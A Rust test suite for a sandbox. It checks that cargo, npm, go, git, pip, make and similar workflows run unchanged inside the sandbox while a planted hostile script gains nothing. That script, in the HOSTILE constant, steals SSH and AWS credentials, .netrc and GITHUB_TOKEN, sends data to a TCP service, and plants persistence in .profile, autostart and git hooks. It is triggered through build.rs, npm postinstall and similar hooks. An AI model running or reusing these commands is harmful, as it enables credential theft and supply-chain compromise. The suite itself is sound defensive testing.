//! What people do all day, with the result that it has outside; and a hostile script beside each of them, which gets
//! nothing.

#![expect(clippy::unwrap_used, reason = "a test's way to fail is to panic")]

use sandbox_testing::{Host, Server, needs, tool, toolchain};
use std::{
    path::{Path, PathBuf},
    process::Command,
};

/// What an install script, a test or a build script would do, if it could. The first argument is a service of the host.
const HOSTILE: &str = "#!/bin/sh
cat @home/.ssh/* @home/.aws/* @home/.netrc > loot.$$ 2>/dev/null
cat ../outside/../home/.ssh/id_rsa /proc/self/root@home/.ssh/id_rsa >> loot.$$ 2>/dev/null
cp -r @home/.ssh loot-ssh 2>/dev/null
echo planted >> @home/.profile
echo planted > @outside/planted
echo planted >> @outside/public
ln -s @outside link.$$ && echo planted > link.$$/by-link
mkdir -p @home/.config/autostart && echo planted > @home/.config/autostart/x.desktop
@payload tcp SERVICE >> loot.$$
printenv GITHUB_TOKEN >> loot.$$
exit 0
";

/// A host with a hostile script in the workspace, and a service that nobody may reach.
struct Work {
    host: Host,
    service: Server,
    path: Vec<PathBuf>,
}

impl Work {
    fn new() -> Self {
        let service = Server::tcp("127.0.0.1");
        let hostile = HOSTILE.replace("SERVICE", &service.address);
        let host = Host::new().script("hostile", &hostile).file(
            "~/.gitconfig",
            "[user]\n\tname = A\n\temail = a@example.com\n[init]\n\tdefaultBranch = main\n",
        );
        Self {
            host,
            service,
            path: Vec::new(),
        }
    }

    fn file(mut self, path: &str, content: &str) -> Self {
        self.host = self.host.file(path, content);
        self
    }

    fn environment(&self) -> std::ffi::OsString {
        let old = std::env::var_os("PATH").unwrap_or_default();
        let old: Vec<PathBuf> = std::env::split_paths(&old).collect();
        std::env::join_paths(self.path.iter().chain(&old)).unwrap()
    }

    /// Everything that a thief took, wherever it put it.
    fn loot(&self) -> String {
        let script = "cat loot* loot-ssh/* */loot* 2>/dev/null; true";
        self.host.bare(["sh", "-c", script]).output().text()
    }
}

/// The script does the same inside and outside, and the thief in it gets everything outside and nothing inside.
#[track_caller]
fn works(make: impl Fn() -> Work, script: &str) {
    let command = ["sh", "-ec", script];

    let outside = make();
    let expected = outside
        .host
        .bare(command)
        .env("PATH", outside.environment())
        .env("GITHUB_TOKEN", "SECRET token")
        .output();
    expected.succeeds();
    let loot = outside.loot();
    for stolen in ["SECRET ssh key", "SECRET token", "the host"] {
        assert!(
            loot.contains(stolen),
            "control: the script should steal `{stolen}`: {loot}"
        );
    }
    assert!(
        outside.host.has("@outside/planted") && outside.service.visitors() > 0,
        "control"
    );

    let inside = make();
    let before = inside.host.snapshot_outside();
    let outcome = inside
        .host
        .sandbox(command)
        .env("PATH", inside.environment())
        .env("GITHUB_TOKEN", "SECRET token")
        .output();
    outcome.succeeds().stdout(&expected.text());
    before.is_unchanged();
    let loot = inside.loot();
    assert!(
        !loot.contains("SECRET") && !loot.contains("the host"),
        "stolen: {loot}"
    );
    assert_eq!(inside.service.visitors(), 0);
}

/// A Python that is not a shim of a version manager, with what its distribution may have taken out of it.
fn python(modules: &str) -> Option<PathBuf> {
    let python = Some(PathBuf::from("/usr/bin/python3")).filter(|path| path.is_file());
    let python = python.or_else(|| tool("python3"))?;
    let import = format!("import {modules}");
    let output = Command::new(&python).args(["-c", &import]).output().ok()?;
    output.status.success().then_some(python)
}

#[test]
fn cargo_builds_a_crate_with_fetched_dependencies() {
    let bin = toolchain();
    if !needs("cargo", bin.is_some()) {
        return;
    }
    let make = || {
        Work {
        path: bin.iter().cloned().collect(),
        ..Work::new()
            .file("app/Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nfetched = \"1\"\nnear = { path = \"../near\" }\n[workspace]\n")
            .file("app/build.rs", "fn main() { assert!(std::process::Command::new(\"sh\").arg(\"../hostile\").status().unwrap().success()); }\n")
            .file("app/src/main.rs", "fn main() { println!(\"{} {}\", fetched::word(), near::word()); }\n#[test]\nfn passes() {}\n")
            .file("app/.cargo/config.toml", "[source.crates-io]\nreplace-with = \"vendored\"\n[source.vendored]\ndirectory = \"../vendor\"\n[net]\noffline = true\n")
            .file("near/Cargo.toml", "[package]\nname = \"near\"\nversion = \"0.1.0\"\nedition = \"2021\"\n")
            .file("near/src/lib.rs", "pub fn word() -> &'static str { \"near\" }\n")
            .file("vendor/fetched/Cargo.toml", "[package]\nname = \"fetched\"\nversion = \"1.0.0\"\nedition = \"2021\"\n")
            .file("vendor/fetched/.cargo-checksum.json", "{\"files\":{}}")
            .file("vendor/fetched/src/lib.rs", "pub fn word() -> &'static str { \"fetched\" }\n")
    }
    };
    works(
        make,
        "cd app && cargo build -q && ./target/debug/app && cargo test -q 2>&1 | grep -c '1 passed'",
    );
}

#[test]
fn npm_tests_a_package() {
    if !needs(
        "npm and node",
        tool("npm").is_some() && tool("node").is_some(),
    ) {
        return;
    }
    let make = || {
        Work::new()
            .file("package.json", r#"{"name": "app", "version": "1.0.0", "scripts": {"pretest": "sh ./hostile", "test": "node --test test.js | grep -E '^# (pass|fail)'", "build": "mkdir -p dist && cp index.js dist/"}, "dependencies": {"dep": "file:./dep"}}"#)
            .file("dep/package.json", r#"{"name": "dep", "version": "1.0.0", "scripts": {"postinstall": "sh ../hostile"}}"#)
            .file("dep/index.js", "module.exports = 42;\n")
            .file("index.js", "module.exports = require('dep');\n")
            .file("test.js", "require('node:test')('answers', () => require('node:assert').equal(require('./index.js'), 42));\n")
    };
    works(
        make,
        "npm install --offline --no-audit --no-fund --silent && npm test --silent && npm run --silent build && cat dist/index.js",
    );
}

#[test]
fn go_builds_and_tests_a_module() {
    if !needs("go", tool("go").is_some()) {
        return;
    }
    let make = || {
        Work::new()
            .file("go.mod", "module example.com/app\n\ngo 1.19\n")
            .file("main.go", "package main\n\nimport \"fmt\"\n\nfunc answer() int { return 42 }\n\nfunc main() { fmt.Println(answer()) }\n")
            .file("main_test.go", "package main\n\nimport (\n\t\"os/exec\"\n\t\"testing\"\n)\n\nfunc TestAnswer(t *testing.T) {\n\tif exec.Command(\"sh\", \"./hostile\").Run() != nil || answer() != 42 {\n\t\tt.Fail()\n\t}\n}\n")
    };
    works(
        make,
        "go build -o app . && ./app && go vet . && go test . | cut -c1-2",
    );
}

#[test]
fn git_makes_a_repository_and_commits() {
    if !needs("git", tool("git").is_some()) {
        return;
    }
    let script = "sh ./hostile; git init -q repo && cd repo && echo x > file && git add file && git commit -q -m first && \
                  git checkout -q -b other && echo y >> file && git commit -q -a -m second && git checkout -q main && \
                  git merge -q other && git log --format=%s && git status --short && git stash list && git diff HEAD~1 --stat | tail -1";
    works(Work::new, script);
}

#[test]
fn git_commits_to_a_repository_that_was_there() {
    if !needs("git", tool("git").is_some()) {
        return;
    }
    let make = || {
        let work = Work::new().file("file", "x\n");
        let script = "git init -q . && git add file && git commit -q -m first";
        work.host.bare(["sh", "-ec", script]).output().succeeds();
        work
    };
    let script = "sh ./hostile; echo y >> file && git commit -q -a -m second && git log --format=%s && git branch other && git switch -q other && git status --short file";
    works(make, script);
    // Its hooks and its configuration stay as they were: the next git of the person would obey them.
    let work = make();
    let before = [".git/hooks", ".git/config"].map(|path| work.host.snapshot(path));
    let attack = "echo x > .git/hooks/pre-commit; git config core.fsmonitor evil; echo x >> .git/config; mv .git g && mv g .git; rm -rf .git/hooks; true";
    work.host.sandbox(["sh", "-c", attack]).output().succeeds();
    before
        .iter()
        .for_each(sandbox_testing::Snapshot::is_unchanged);
}

#[test]
fn python_makes_an_environment_and_installs_a_package() {
    let python = python("venv, ensurepip, zipfile");
    if !needs("python3 with venv", python.is_some()) {
        return;
    }
    // A wheel, made by hand: an index and a build tool are two things that a sandbox does not have.
    let wheel = r#"
import zipfile
with zipfile.ZipFile("greet-1.0-py3-none-any.whl", "w") as wheel:
    wheel.writestr("greet.py", "import subprocess\n\ndef main():\n    subprocess.run(['sh', './hostile'], check=True)\n    print('greetings')\n")
    wheel.writestr("greet-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: greet\nVersion: 1.0\n")
    wheel.writestr("greet-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    wheel.writestr("greet-1.0.dist-info/entry_points.txt", "[console_scripts]\ngreet = greet:main\n")
    wheel.writestr("greet-1.0.dist-info/RECORD", "")
"#;
    let make = || Work::new().file("wheel.py", wheel);
    let script = format!(
        "{} -m venv env && env/bin/python wheel.py && env/bin/pip install -q --no-index --disable-pip-version-check ./greet-1.0-py3-none-any.whl && env/bin/greet",
        python.as_deref().unwrap_or(Path::new("python3")).display()
    );
    works(make, &script);
}

#[test]
fn make_runs_jobs_side_by_side() {
    if !needs(
        "make and gcc",
        tool("make").is_some() && tool("gcc").is_some(),
    ) {
        return;
    }
    let make = || {
        let objects: Vec<String> = (0..8).map(|number| format!("part{number}.o")).collect();
        let makefile = format!(
            "app: {0} main.o\n\tgcc -o $@ $^\n\n%.o: %.c stolen\n\tgcc -c -o $@ $<\n\nstolen:\n\tsh ./hostile\n\ttouch stolen\n",
            objects.join(" ")
        );
        let parts = (0..8).map(|number| format!("part{number}"));
        let declarations: Vec<String> = parts
            .clone()
            .map(|part| format!("int {part}(void);\n"))
            .collect();
        let calls: Vec<String> = parts.map(|part| format!("{part}()")).collect();
        let main = format!(
            "#include <stdio.h>\n{}int main(void) {{ printf(\"%d\\n\", {}); return 0; }}\n",
            declarations.concat(),
            calls.join(" + ")
        );
        let work = Work::new()
            .file("Makefile", &makefile)
            .file("main.c", &main);
        (0..8).fold(work, |work, number| {
            work.file(
                &format!("part{number}.c"),
                &format!("int part{number}(void) {{ return {number}; }}\n"),
            )
        })
    };
    works(make, "make -s -j8 && ./app");
}

#[test]
fn a_program_gets_a_terminal_of_its_own() {
    let python = python("pty");
    if !needs(
        "script and python3",
        tool("script").is_some() && python.is_some(),
    ) {
        return;
    }
    let script = format!(
        "sh ./hostile; script -qec 'test -t 0 && test -t 1 && echo script' /dev/null | tr -d '\\r'; \
         {} -c 'import pty, sys; sys.exit(pty.spawn([\"sh\", \"-c\", \"test -t 0 && tty | cut -c1-9\"]))' | tr -d '\\r'",
        python.as_deref().unwrap_or(Path::new("python3")).display()
    );
    works(Work::new, &script);
}

#[test]
fn a_server_and_its_client_talk_on_the_loopback() {
    let python = python("http.server, urllib.request");
    if !needs("python3", python.is_some()) {
        return;
    }
    let server = r#"
import http.server, os, subprocess, sys, threading, urllib.request
subprocess.run(["sh", "./hostile"], check=True)
os.chdir("public")
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
client = "import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1]).read().decode())"
for name in ("127.0.0.1", "localhost"):
    url = "http://%s:%d/page" % (name, server.server_port)
    subprocess.run([sys.executable, "-c", client, url], check=True)
"#;
    let make = || {
        Work::new()
            .file("server.py", server)
            .file("public/page", "served")
    };
    let script = format!(
        "{} server.py 2>/dev/null",
        python.as_deref().unwrap_or(Path::new("python3")).display()
    );
    works(make, &script);
}

#[test]
fn a_leak_check_traces_its_own_threads() {
    if !needs("gcc", tool("gcc").is_some()) {
        return;
    }
    let make = || {
        Work::new().file(
            "leak.c",
            "#include <stdlib.h>\nvoid *kept;\nint main(int argc, char **argv) { (void)argv; kept = malloc(16); if (argc > 1) { kept = 0; malloc(32); } return 0; }\n",
        )
    };
    // Clean without arguments, 23 with a leak.
    let script = "sh ./hostile; gcc -w -g -fsanitize=address -o leak leak.c && ./leak && echo clean; \
                  ./leak leaks 2> report || echo $?; grep -c 'detected memory leaks' report";
    works(make, script);
}

/// Both must name the same group: by the one a runtime finds its limits below the mounts that the other lists.
#[test]
fn a_runtime_finds_the_group_that_limits_it() {
    let host = Host::new();
    let find = "cat /proc/self/cgroup; sed -n '/ - cgroup/s/^[^/]* \\([^ ]* [^ ]*\\) .*/\\1/p' /proc/self/mountinfo";
    let outside = host.bare(["sh", "-ec", find]).output().text();
    assert!(!outside.is_empty());
    let inside = host.sandbox(["sh", "-ec", find]).output();
    inside.succeeds().stdout(&outside);
}
